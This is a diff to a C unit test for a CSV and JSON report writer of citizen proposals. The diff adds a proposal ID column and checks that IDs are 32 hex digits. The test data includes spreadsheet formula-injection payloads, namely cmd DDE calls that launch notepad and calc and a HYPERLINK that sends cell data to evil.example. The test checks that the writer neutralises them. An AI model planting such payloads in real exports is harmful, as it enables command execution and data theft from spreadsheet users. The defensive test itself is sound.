@@ -715,6 +715,8 @@ check_proposals(struct fx *f)
 	/* Oldest first: d's (C2, now CN, so to 180), a's (V1 to C1), e's
 	 * (V3 under C3, now CN). */
 	assert_string_equal(r->items[0].cadre, "cb-d");
+	assert_int_equal(strlen(r->items[0].id), 32); /* for admin respond */
+	assert_int_equal(strspn(r->items[0].id, "0123456789abcdef"), 32);
 	assert_string_equal(r->items[0].route, "180");
 	assert_int_equal(r->items[0].age_days, tdays(TODAY) - tdays(20250610));
 	assert_int_equal(r->items[0].status, 1);
@@ -1049,9 +1051,10 @@ test_cells(void **state)
 	    {"cb-a", "+cmd|' /C notepad'!A0", "\tV1",
 	        "@SUM(1+1)*cmd|' /C calc'!A0",
 	        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào\")", "C1",
-	        "-2+3", 20250720, -5, 0},
+	        "-2+3", 20250720, -5, 0, "0193aa000000700080000000000000a1"},
 	    {"cb-b", "Nguyễn Văn An", "\rV2", "Thôn Nà Pàn", text, "C1",
-	        "Xã Đào Viên", 20250101, 12, 2},
+	        "Xã Đào Viên", 20250101, 12, 2,
+	        "0193aa000000700080000000000000b2"},
 	};
 	struct report_proposals r = {.today = TODAY, .items = p, .nitems = 2};
 	char err[REPORT_ERRMSG_MAX], *buf, *line, *eol, want[2048];
@@ -1066,12 +1069,14 @@ test_cells(void **state)
 	assert_int_equal(report_write_proposals(&r, REPORT_CSV, path, err), 0);
 	buf = slurp(path, &len);
 	n   = (size_t) snprintf(want, sizeof(want),
-	      "\xEF\xBB\xBFNgày,Số ngày,Trạng thái,Mã đơn vị,Đơn vị,Cán bộ,"
-	        "Chuyển đến,Nội dung kiến nghị\r\n"
+	      "\xEF\xBB\xBFMã kiến nghị,Ngày,Số ngày,Trạng thái,Mã đơn vị,"
+	        "Đơn vị,Cán bộ,Chuyển đến,Nội dung kiến nghị\r\n"
+	        "0193aa000000700080000000000000a1,"
 	        "20/07/2025,-5,Chưa trả lời,\"'\tV1\","
 	        "\"'@SUM(1+1)*cmd|' /C calc'!A0\",\"'+cmd|' /C notepad'!A0\","
 	        "\"'-2+3\",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,"
 	        "\"\"Bấm vào\"\")\"\r\n"
+	        "0193aa000000700080000000000000b2,"
 	        "01/01/2025,12,Đã giải quyết,\"'\rV2\",Thôn Nà Pàn,"
 	        "Nguyễn Văn An,Xã Đào Viên,%s\r\n",
 	      text);
@@ -1090,6 +1095,10 @@ test_cells(void **state)
 	    json_string_value(json_object_get(
 	        json_array_get(json_object_get(j, "proposals"), 1), "text")),
 	    text);
+	assert_string_equal(
+	    json_string_value(json_object_get(
+	        json_array_get(json_object_get(j, "proposals"), 1), "id")),
+	    p[1].id);
 	json_decref(j);
 
 	/* The table: valid UTF-8 throughout; the long text cut after 59
